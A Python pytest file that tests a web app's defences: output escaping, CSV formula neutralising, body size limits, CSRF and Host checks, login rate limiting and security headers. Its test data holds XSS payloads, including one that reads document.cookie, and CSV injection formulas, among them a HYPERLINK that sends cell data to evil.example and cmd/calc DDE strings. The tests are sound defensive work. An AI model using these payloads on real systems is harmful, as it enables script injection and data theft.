"""Hostile input against the real app (TestClient, real Redis and SQLite): script in every
text a person or a platform can put on a page, formulas in the CSV exports, oversize bodies,
forged form posts, foreign Host headers, spoofed proxy headers, password guessing, made-up
status notes; and the headers and the write-only credentials that hold whatever the rest misses.

A page is judged as a browser would build it (``Markup``): no script element, no event-handler
attribute, no ``javascript:`` link, and the hostile text shown as text where the page shows
that field (so a page that dropped the value cannot pass for one that escaped it).
"""

from __future__ import annotations

import csv
import io
import re
import socket
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from typing import Any
from urllib.parse import quote, urlsplit

import pytest
from fastapi.testclient import TestClient

import content_queue.throttle
from herald.core.settings import reset_settings
from herald.service import PostRequest
from herald.service.accounts import MAX_FAILURES_PER_ACCOUNT, MAX_FAILURES_PER_ADDRESS, SIGN_IN_WINDOW_SECONDS
from herald.web import create_app
from herald.web.app import BODY_LIMITS, DEFAULT_BODY_LIMIT
from herald.web.exports import FORMULA_STARTS
from tests.e2e.browser import add_person, served
from tests.web import (
    ADMIN,
    ALL_TOKENS,
    BASE_URL,
    MANAGER,
    PASSWORD,
    STAFF,
    add_channels,
    add_people,
    csrf_of,
    jpeg_bytes,
    settle,
    web_client,
)

# -- what a browser would make of a page -------------------------------------------------------

#: Attributes a browser follows as a URL (a ``javascript:`` one runs script).
URL_ATTRIBUTES = frozenset({"href", "src", "action", "formaction", "xlink:href", "poster", "data"})
#: Elements that run or embed active content; Herald's pages have none.
ACTIVE_ELEMENTS = frozenset({"script", "iframe", "object", "embed", "frame", "base"})


class Markup(HTMLParser):
    """A page's elements (tag, attributes) and its text, character references decoded."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self._text: list[str] = []
        self.feed(html)
        self.close()
        self.text = "".join(self._text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_data(self, data: str) -> None:
        self._text.append(data)

    def shows(self, value: str) -> bool:
        """Is ``value`` on the page as text, or as an attribute's value (a filled form field)?"""
        return value in self.text or any(value in v for _, attrs in self.elements for v in attrs.values())


def assert_inert(html: str, where: str, *shown: str) -> Markup:
    """The page runs nothing, and shows each of ``shown`` as text."""
    page = Markup(html)
    for tag, attrs in page.elements:
        if tag == "script" and re.fullmatch(r"/static/[a-z]+\.js", attrs.get("src", "")):
            continue  # the app's own script files (live updates, progress, the calendar)
        assert tag not in ACTIVE_ELEMENTS, (where, tag, attrs)
        for name, value in attrs.items():
            assert not name.startswith("on"), (where, tag, name, value)
            # Browsers ignore leading spaces and control characters before a scheme.
            scheme = re.sub(r"[\x00-\x20]", "", value).lower()
            assert not (name in URL_ATTRIBUTES and scheme.startswith("javascript:")), (
                where,
                tag,
                name,
                value,
            )
    for value in shown:
        assert page.shows(value), f"{where}: {value!r} is not on the page"
    return page


def hostile(field: str) -> str:
    """Script two ways (an element, and an attribute breaking out of a quoted value), tagged
    with the field it was typed in."""
    element = f"<script>alert('{field}')</script>"
    return f"{element}\"><img src=x onerror=alert('{field}')> javascript:alert('{field}')"


TEXT = "새 소식 " + hostile("text")
VARIANT = hostile("variant")
ALT = hostile("alt")
#: Campaign names have at most 100 characters: the two attacks, shorter.
CAMPAIGN = "<script>alert('c')</script>\"><img src=x onerror=alert('c')>"
PLATFORM_ERROR = "Mastodon: HTTP 422: " + hostile("platform")
#: Channel names have no spaces or double quotes (both refused): the same two attacks without
#: them, breaking out of a single-quoted attribute instead.
CHANNEL_SCRIPT = "<script>alert('channel')</script>"
CHANNEL_IMG = "'><img/src=x/onerror=alert('channel')>"
#: A file name is a name, never a path: no slash in it.
FILE_NAME = "<img src=x onerror=alert('file')>.jpg"
JAVASCRIPT_URL = "javascript:alert(document.cookie)"


def hostile_channels(herald: Any) -> None:
    for name in (CHANNEL_SCRIPT, CHANNEL_IMG):
        herald.add_channel(
            name, "mastodon", {"access_token": "tok-hostile-1"}, base_url="http://127.0.0.1:9/m"
        )


def compose_fields(client: TestClient, **extra: str | list[str]) -> dict[str, str | list[str]]:
    token = csrf_of(client.get("/compose").text)
    return {"csrf_token": token, "now": "1", "action": "queue", **extra}


def test_script_in_every_field_is_shown_as_text_on_every_page(herald: Any) -> None:
    add_channels(herald)
    add_people(herald)
    hostile_channels(herald)
    herald.set_campaign(CAMPAIGN)
    photo = ("photo1", (FILE_NAME, jpeg_bytes(), "image/jpeg"))
    channels = [CHANNEL_SCRIPT, CHANNEL_IMG, "x1"]
    with web_client(herald, STAFF) as staff:
        # Refused (X's own text is over its 280), so the form comes back with all of it.
        fields = compose_fields(
            staff,
            text=TEXT,
            channels=channels,
            campaign=CAMPAIGN,
            alt1=ALT,
            **{f"text_for.{CHANNEL_SCRIPT}": VARIANT, "text_for.x1": "가" * 150},
        )
        refused = staff.post("/compose", data=fields, files=[photo])
        assert refused.status_code == 422
        assert_inert(
            refused.text,
            "/compose refused",
            TEXT,
            VARIANT,
            ALT,
            CAMPAIGN,
            FILE_NAME,
            CHANNEL_SCRIPT,
            CHANNEL_IMG,
        )
        # Faces to blur: the preview page shows the photo with its alt text and file name.
        fields = compose_fields(
            staff, text=TEXT, channels=channels[:2], campaign=CAMPAIGN, alt1=ALT, faces1="blur"
        )
        preview = staff.post("/compose", data=fields, files=[photo])
        assert preview.status_code == 200 and "Check the faces" in preview.text
        assert_inert(preview.text, "preview", TEXT, ALT, CAMPAIGN, FILE_NAME, CHANNEL_SCRIPT, CHANNEL_IMG)

        fields = compose_fields(
            staff,
            text=TEXT,
            channels=channels[:2],
            campaign=CAMPAIGN,
            alt1=ALT,
            **{f"text_for.{CHANNEL_SCRIPT}": VARIANT},
        )
        queued = staff.post("/compose", data=fields, files=[photo], follow_redirects=False)
        assert queued.status_code == 303, queued.text
        post_id = herald.list_posts()[0].id
        assert_inert(staff.get("/").text, "/ (staff)", TEXT, CAMPAIGN, CHANNEL_SCRIPT, CHANNEL_IMG)

    settle(herald, post_id, "failed", error=PLATFORM_ERROR)
    # A platform that answers a javascript: URL for the post gets no link out of it.
    linked = herald.add_post(PostRequest(channels=[CHANNEL_SCRIPT], text=TEXT, campaign=CAMPAIGN))
    settle(herald, linked, "published", url=JAVASCRIPT_URL)

    with web_client(herald, MANAGER) as manager:
        token = csrf_of(manager.get("/").text)
        pages = {
            "/": (CAMPAIGN, CHANNEL_SCRIPT, CHANNEL_IMG, PLATFORM_ERROR),
            "/log": (TEXT, VARIANT, CAMPAIGN, CHANNEL_SCRIPT, CHANNEL_IMG, PLATFORM_ERROR),
            "/compose": (CAMPAIGN, CHANNEL_SCRIPT, CHANNEL_IMG),
        }
        for path, shown in pages.items():
            answer = manager.get(path)
            assert answer.status_code == 200, path
            assert_inert(answer.text, path, *shown)
        question = manager.post(f"/posts/{linked}/takedown", data={"csrf_token": token})
        assert question.status_code == 200
        assert_inert(question.text, "takedown question", TEXT, CHANNEL_SCRIPT)

    with web_client(herald, ADMIN) as admin:
        for path, shown in {
            "/campaigns": (CAMPAIGN,),
            "/audit": (CAMPAIGN, CHANNEL_SCRIPT, CHANNEL_IMG),
            "/users": (CAMPAIGN,),
        }.items():
            answer = admin.get(path)
            assert answer.status_code == 200, path
            assert_inert(answer.text, path, *shown)


def test_script_in_the_address_is_shown_as_text(herald: Any) -> None:
    """What a crafted link puts in a filter or an id comes back escaped."""
    add_channels(herald)
    add_person(herald, ADMIN)
    payload = hostile("query")
    with web_client(herald, ADMIN) as admin:
        token = csrf_of(admin.get("/").text)
        for path in ("/", "/log"):
            answer = admin.get(path, params={"campaign": payload, "channel": payload, "status": payload})
            assert answer.status_code in (200, 422), path
            assert_inert(answer.text, path, payload)
        edit = admin.get("/campaigns", params={"edit": payload})
        assert_inert(edit.text, "/campaigns?edit", payload)
        # A path segment cannot hold a slash: the attribute attack only.
        post_id = '"><img src=x onerror=alert(1)>'
        unknown = admin.post(f"/posts/{quote(post_id, safe='')}/cancel", data={"csrf_token": token})
        assert unknown.status_code == 404
        assert_inert(unknown.text, "cancel of an unknown post", post_id)


# -- CSV exports --------------------------------------------------------------------------------

FORMULAS = {
    "text": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "variant": "+cmd|' /C calc'!A0",
    "campaign": "-2+3+cmd|' /C calc'!A0",
    "channel": "@SUM(1+1)*cmd|'/Ccalc'!A0",
    "error": "\t=1+1",
    "url_error": "\r=2+2",
}


def read_csv(body: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.removeprefix("\ufeff"))))


def assert_no_formula(rows: list[list[str]], where: str) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS), (where, cell, row)


def test_csv_exports_neutralise_formulas(herald: Any) -> None:
    add_person(herald, MANAGER, ADMIN)
    channel = FORMULAS["channel"]
    herald.add_channel(
        channel, "mastodon", {"access_token": "tok-formula-1"}, base_url="http://127.0.0.1:9/m"
    )
    herald.add_channel("m2", "mastodon", {"access_token": "tok-formula-2"}, base_url="http://127.0.0.1:9/m")
    herald.set_campaign(FORMULAS["campaign"])
    failed = herald.add_post(
        PostRequest(
            channels=[channel],
            text=FORMULAS["text"],
            text_for={channel: FORMULAS["variant"]},
            campaign=FORMULAS["campaign"],
        )
    )
    settle(herald, failed, "failed", error=FORMULAS["error"])
    other = herald.add_post(
        PostRequest(channels=["m2"], text=FORMULAS["text"], campaign=FORMULAS["campaign"])
    )
    settle(herald, other, "uncertain", error=FORMULAS["url_error"])

    with web_client(herald, MANAGER) as manager:
        answer = manager.get("/log.csv")
        assert answer.status_code == 200
        assert answer.headers["content-type"].startswith("text/csv")
        rows = read_csv(answer.text)
        assert_no_formula(rows, "/log.csv")
        header, body = rows[0], rows[1:]
        by_post = {r[header.index("post_id")]: dict(zip(header, r, strict=True)) for r in body}
        # Every hostile value is there, as text: one leading quote, the rest unchanged.
        assert by_post[failed]["text"] == "'" + FORMULAS["variant"]
        assert by_post[failed]["campaign"] == "'" + FORMULAS["campaign"]
        assert by_post[failed]["channel"] == "'" + channel
        assert by_post[failed]["error"] == "'" + FORMULAS["error"]
        assert by_post[other]["text"] == "'" + FORMULAS["text"]
        assert by_post[other]["error"] == "'" + FORMULAS["url_error"]

    with web_client(herald, ADMIN) as admin:
        answer = admin.get("/audit.csv")
        assert answer.status_code == 200
        rows = read_csv(answer.text)
        assert_no_formula(rows, "/audit.csv")
        targets = {r[rows[0].index("target_id")] for r in rows[1:]}
        assert {"'" + channel, "'" + FORMULAS["campaign"]} <= targets


# -- body size ----------------------------------------------------------------------------------


def raw_status(base_url: str, request: bytes, *, timeout: float = 5.0) -> tuple[int, bytes]:
    """Send ``request`` (head and however much body) on a fresh connection; the status and
    headers of the answer. Times out if the server waits for a body it was never sent."""
    url = urlsplit(base_url)
    with socket.create_connection((url.hostname, url.port), timeout=timeout) as sock:
        sock.sendall(request)
        data = b""
        while b"\r\n\r\n" not in data:
            chunk = sock.recv(65536)
            if not chunk:
                break
            data += chunk
    head = data.split(b"\r\n\r\n", 1)[0]
    return int(head.split(b" ", 2)[1]), head


def declared(path: str, length: int, body: bytes, content_type: str) -> bytes:
    return (
        f"POST {path} HTTP/1.1\r\nHost: localhost\r\nContent-Type: {content_type}\r\n"
        f"Content-Length: {length}\r\nConnection: close\r\n\r\n"
    ).encode() + body


def test_oversize_bodies_are_refused_before_they_are_read(herald: Any) -> None:
    multipart = "multipart/form-data; boundary=x"
    form = "application/x-www-form-urlencoded"
    first_kib = b"--x\r\n" + b"a" * 1019
    with served(create_app(herald)) as base:
        # Declared over the limit: 413 at once, though only the first KiB was ever sent.
        for path, limit, kind in (
            ("/compose", BODY_LIMITS["/compose"], multipart),
            ("/import", BODY_LIMITS["/import"], multipart),
            ("/login", DEFAULT_BODY_LIMIT, form),
            ("/api/v1/posts", BODY_LIMITS["/api/v1/posts"], multipart),
        ):
            status, head = raw_status(base, declared(path, limit + 1, first_kib, kind))
            assert status == 413, (path, head)
            assert b"connection: close" in head.lower(), path
        status, _ = raw_status(base, declared("/login", 2 * 1024 * 1024, first_kib, form))
        assert status == 413
        # Within the limit and whole, the same request reaches the app (a form without its
        # sign-in cookie: refused as a forgery, not for its size).
        status, _ = raw_status(base, declared("/login", 11, b"email=a%40b", form))
        assert status == 403

    with TestClient(create_app(herald), base_url=BASE_URL) as client:
        # Streamed without a length: cut off once it passes the limit.
        def chunks() -> Iterator[bytes]:
            for _ in range(DEFAULT_BODY_LIMIT // 65536 + 2):
                yield b"a" * 65536

        answer = client.post("/login", content=chunks(), headers={"Content-Type": form})
        assert answer.status_code == 413


# -- forged requests ----------------------------------------------------------------------------


def later_post(herald: Any) -> str:
    at = datetime.now(UTC) + timedelta(days=3)
    return str(herald.add_post(PostRequest(channels=["m1", "x1"], text="다음 주 공지 — next week", at=at)))


def statuses(herald: Any, post_id: str) -> set[str]:
    return {row.status for row in herald.delivery_log(post_id=post_id)}


def test_a_cross_site_form_post_is_refused(herald: Any) -> None:
    add_channels(herald)
    add_person(herald, MANAGER, ADMIN)
    post_id = later_post(herald)
    before = statuses(herald, post_id)
    assert before == {"queued"}
    with web_client(herald, MANAGER) as manager, web_client(herald, ADMIN) as admin:
        own = csrf_of(manager.get("/").text)
        someone_elses = csrf_of(admin.get("/").text)
        with TestClient(create_app(herald), base_url=BASE_URL) as anonymous:
            login_form = csrf_of(anonymous.get("/login").text)
        for forged in ({}, {"csrf_token": ""}, {"csrf_token": someone_elses}, {"csrf_token": login_form}):
            answer = manager.post(f"/posts/{post_id}/cancel", data=forged, follow_redirects=False)
            assert answer.status_code == 403, forged
            assert "did not come from Herald" in answer.text
        # A cookie-authenticated API call needs the token in its header.
        api = manager.post(f"/api/v1/posts/{post_id}/cancel", follow_redirects=False)
        assert api.status_code == 403
        assert api.headers["content-type"].startswith("application/problem+json")
        api = manager.post(f"/api/v1/posts/{post_id}/cancel", headers={"X-CSRF-Token": someone_elses})
        assert api.status_code == 403
        assert statuses(herald, post_id) == before

        # The same post with the page's own token goes through.
        answer = manager.post(f"/posts/{post_id}/cancel", data={"csrf_token": own}, follow_redirects=False)
        assert answer.status_code == 303
        assert statuses(herald, post_id) == {"cancelled"}


def test_a_sign_in_post_without_the_sign_in_cookie_is_refused(herald: Any) -> None:
    add_person(herald, MANAGER)
    with TestClient(create_app(herald), base_url=BASE_URL) as client:
        token = csrf_of(client.get("/login").text)
        form = {"email": MANAGER, "password": PASSWORD, "csrf_token": token}
        planted = dict(client.cookies)
        client.cookies.clear()
        answer = client.post("/login", data=form, follow_redirects=False)
        assert answer.status_code == 403
        assert "herald_session" not in answer.headers.get("set-cookie", "")
        # Another browser's sign-in cookie does not go with this form's token.
        with TestClient(create_app(herald), base_url=BASE_URL) as other:
            other.get("/login")
            client.cookies.update(dict(other.cookies))
        answer = client.post("/login", data=form, follow_redirects=False)
        assert answer.status_code == 403
        # With its own cookie, the same form signs in.
        client.cookies.clear()
        client.cookies.update(planted)
        answer = client.post("/login", data=form, follow_redirects=False)
        assert answer.status_code == 303
        assert "herald_session=" in answer.headers["set-cookie"]


# -- Host and proxy headers ---------------------------------------------------------------------

FOREIGN_HOSTS = ("evil.example", "evil.example:80", "localhost.evil.example", "127.0.0.1.nip.io", "")


def test_a_foreign_host_header_is_refused_everywhere(herald: Any) -> None:
    add_person(herald, ADMIN)
    with web_client(herald, ADMIN) as admin:
        token = csrf_of(admin.get("/").text)
        for path in (
            "/",
            "/login",
            "/api/v1/channels",
            "/api/v1/openapi.json",
            "/static/herald.css",
            "/healthz",
        ):
            assert admin.get(path).status_code != 400, path
            for host in FOREIGN_HOSTS:
                answer = admin.get(path, headers={"Host": host})
                assert answer.status_code == 400, (path, host)
                assert "herald_session" not in answer.headers.get("set-cookie", "")
        for host in FOREIGN_HOSTS:
            answer = admin.post(
                "/campaigns", data={"csrf_token": token, "name": "rebound"}, headers={"Host": host}
            )
            assert answer.status_code == 400, host
    assert [c.name for c in herald.list_campaigns()] == []


def session_cookie_of(client: TestClient, headers: dict[str, str]) -> str:
    """Sign in through the form with ``headers`` on each request (cookies sent by hand: a
    Secure cookie is not sent back over plain http); the session's Set-Cookie."""
    page = client.get("/login", headers=headers)
    login_cookie = page.cookies["herald_login"]
    form = {"email": MANAGER, "password": PASSWORD, "csrf_token": csrf_of(page.text)}
    client.cookies.clear()
    answer = client.post(
        "/login",
        data=form,
        headers={**headers, "Cookie": f"herald_login={login_cookie}"},
        follow_redirects=False,
    )
    assert answer.status_code == 303, answer.text
    [cookie] = [c for c in answer.headers.get_list("set-cookie") if c.startswith("herald_session=")]
    return cookie


def cookie_flags(set_cookie: str) -> set[str]:
    """The attributes of a Set-Cookie header, lower-case, without Max-Age, Expires and Path."""
    attributes = (part.strip().lower() for part in set_cookie.split(";")[1:])
    return {a for a in attributes if not a.startswith(("max-age=", "expires=", "path="))}


def test_forwarded_headers_count_only_from_a_trusted_proxy(
    herald: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    add_person(herald, MANAGER)
    monkeypatch.setenv("HERALD_TRUSTED_PROXIES", "10.9.8.7")
    reset_settings()
    app = create_app(herald)
    spoofed = {"X-Forwarded-Proto": "https", "X-Forwarded-For": "10.9.8.7, 127.0.0.1"}
    with TestClient(app, base_url=BASE_URL, client=("198.51.100.20", 50000)) as stranger:
        flags = cookie_flags(session_cookie_of(stranger, spoofed))
        assert {"httponly", "samesite=lax"} <= flags
        assert "secure" not in flags
    with TestClient(app, base_url=BASE_URL, client=("10.9.8.7", 50000)) as proxy:
        assert "secure" in cookie_flags(session_cookie_of(proxy, spoofed))


# -- password guessing --------------------------------------------------------------------------


class Clock:
    """The sign-in throttle's clock, moved on at will (its window is 15 minutes)."""

    def __init__(self) -> None:
        self.offset = 0.0

    def time(self) -> float:
        return time.time() + self.offset


def test_wrong_passwords_are_rate_limited_per_account_and_per_address(
    herald: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    add_person(herald, ADMIN, MANAGER)
    clock = Clock()
    monkeypatch.setattr(content_queue.throttle, "time", clock)
    with TestClient(create_app(herald), base_url=BASE_URL) as client:
        token = csrf_of(client.get("/login").text)

        def attempt(email: str, password: str, n: int) -> Any:
            # A new X-Forwarded-For each time: from an untrusted peer it changes nothing.
            return client.post(
                "/login",
                data={"email": email, "password": password, "csrf_token": token},
                headers={"X-Forwarded-For": f"203.0.113.{n % 250}"},
                follow_redirects=False,
            )

        answers = [attempt(ADMIN, f"wrong password {n}", n).status_code for n in range(20)]
        assert answers == [401] * MAX_FAILURES_PER_ACCOUNT + [429] * (20 - MAX_FAILURES_PER_ACCOUNT)
        refused = attempt(ADMIN, PASSWORD, 20)
        assert refused.status_code == 429
        assert int(refused.headers["Retry-After"]) > SIGN_IN_WINDOW_SECONDS - 60
        assert "herald_session" not in refused.headers.get("set-cookie", "")
        # The limit is the account's: another person at the same address still gets in.
        assert attempt(MANAGER, PASSWORD, 21).status_code == 303

        # Guessing across accounts fills the address's own limit.
        for n in range(MAX_FAILURES_PER_ADDRESS - MAX_FAILURES_PER_ACCOUNT):
            assert attempt(f"nobody{n}@herald.test", "wrong password", 30 + n).status_code == 401
        assert attempt(MANAGER, PASSWORD, 99).status_code == 429

        clock.offset = SIGN_IN_WINDOW_SECONDS + 1
        assert attempt(ADMIN, PASSWORD, 100).status_code == 303
        assert attempt(MANAGER, PASSWORD, 101).status_code == 303


# -- status notes -------------------------------------------------------------------------------

MADE_UP_NOTES = (
    "/?done=takedown&post=FAKE1234",
    "/?queued=FAKE1234",
    "/?cancelled=FAKE1234&count=99",
    "/?submitted=FAKE1234",
    "/?approved=FAKE1234",
    "/?note=queued&post_id=FAKE1234",
)


def test_only_the_server_can_put_a_note_on_the_dashboard(herald: Any) -> None:
    add_channels(herald)
    add_person(herald, MANAGER, ADMIN)
    post_id = later_post(herald)
    with web_client(herald, MANAGER) as manager, web_client(herald, ADMIN) as admin:
        for path in MADE_UP_NOTES:
            page = Markup(manager.get(path).text)
            assert not any(attrs.get("role") == "status" for _, attrs in page.elements), path
            assert "FAKE1234" not in page.text, path

        token = csrf_of(manager.get("/").text)
        done = manager.post(f"/posts/{post_id}/cancel", data={"csrf_token": token}, follow_redirects=False)
        assert done.status_code == 303
        flash = manager.cookies["herald_flash"]
        with TestClient(create_app(herald), base_url=BASE_URL) as bare:

            def dashboard(session_of: TestClient) -> str:
                cookies = f"herald_session={session_of.cookies['herald_session']}; herald_flash={flash}"
                return str(bare.get("/", headers={"Cookie": cookies}).text)

            # Bound to the session it was made for: on another's, the same cookie says nothing.
            assert "Cancelled." not in dashboard(admin)
            assert f"Cancelled.</strong> Post <code>{post_id}</code>" in dashboard(manager)
        # Shown once: the page that showed it dropped it.
        assert "Cancelled." in manager.get("/").text
        assert "Cancelled." not in manager.get("/").text


# -- headers and credentials --------------------------------------------------------------------


def get_routes(app: Any) -> list[str]:
    """The path of every GET route without path parameters, from the app's own route table
    (so a new page is checked without being listed here). FastAPI keeps an included router's
    routes under ``original_router``; ``url_path_for`` gives the full path."""

    def walk(routes: list[Any]) -> Iterator[Any]:
        for route in routes:
            if hasattr(route, "original_router"):
                yield from walk(route.original_router.routes)
            else:
                yield route

    paths = {
        str(app.url_path_for(route.name))
        for route in walk(app.routes)
        if "GET" in (getattr(route, "methods", None) or ()) and "{" not in route.path
    }
    return sorted(paths)


def assert_security_headers(answer: Any, where: str) -> None:
    csp = answer.headers.get("content-security-policy", "")
    assert csp, where
    assert "'unsafe-inline'" not in csp and "'unsafe-eval'" not in csp, (where, csp)
    assert "script-src 'none'" in csp or "script-src 'self'" in csp, (where, csp)
    assert "frame-ancestors 'none'" in csp, (where, csp)
    assert answer.headers.get("x-frame-options") == "DENY", where
    assert answer.headers.get("x-content-type-options") == "nosniff", where
    assert answer.headers.get("referrer-policy") in ("no-referrer", "same-origin", "strict-origin"), where


def test_security_headers_are_on_every_answer(herald: Any) -> None:
    add_channels(herald)
    add_person(herald, STAFF)
    app = create_app(herald)
    paths = get_routes(app)
    assert {"/", "/login", "/log", "/campaigns", "/api/v1/openapi.json"} <= set(paths)
    with web_client(herald, STAFF) as staff:
        anonymous = TestClient(app, base_url=BASE_URL)
        checks = {
            **{f"staff {p}": staff.get(p, follow_redirects=False) for p in paths},
            **{f"anonymous {p}": anonymous.get(p, follow_redirects=False) for p in paths},
            "static": staff.get("/static/herald.css"),
            "not found": staff.get("/no-such-page"),
            "foreign host": staff.get("/", headers={"Host": "evil.example"}),
            "too large": staff.post("/login", content=b"a" * (DEFAULT_BODY_LIMIT + 1)),
            "forged form": staff.post("/compose", data={"text": "x"}),
        }
        statuses_seen = {answer.status_code for answer in checks.values()}
        assert {200, 303, 400, 401, 403, 404, 413} <= statuses_seen
        for where, answer in checks.items():
            assert_security_headers(answer, where)


def test_channel_credentials_appear_on_no_page(herald: Any) -> None:
    add_channels(herald)
    add_person(herald, ADMIN)
    herald.set_campaign("c")
    failed = herald.add_post(PostRequest(channels=["m1", "x1"], text="자격 증명 — credentials", campaign="c"))
    settle(herald, failed, "failed", error="HTTP 401: the access token is invalid")
    app = create_app(herald)
    paths = get_routes(app)
    with web_client(herald, ADMIN) as admin:
        seen = 0
        for path in paths:
            answer = admin.get(path)
            # /metrics answers loopback or its bearer token, never a session (tests/test_metrics.py).
            assert answer.status_code in (200, 303) or (path, answer.status_code) == ("/metrics", 404), (
                path,
                answer.status_code,
            )
            for token in ALL_TOKENS:
                assert token not in answer.text, (path, token)
            seen += "x1" in answer.text
        # The channels are there (named on several pages), their secrets are not.
        assert seen >= 4
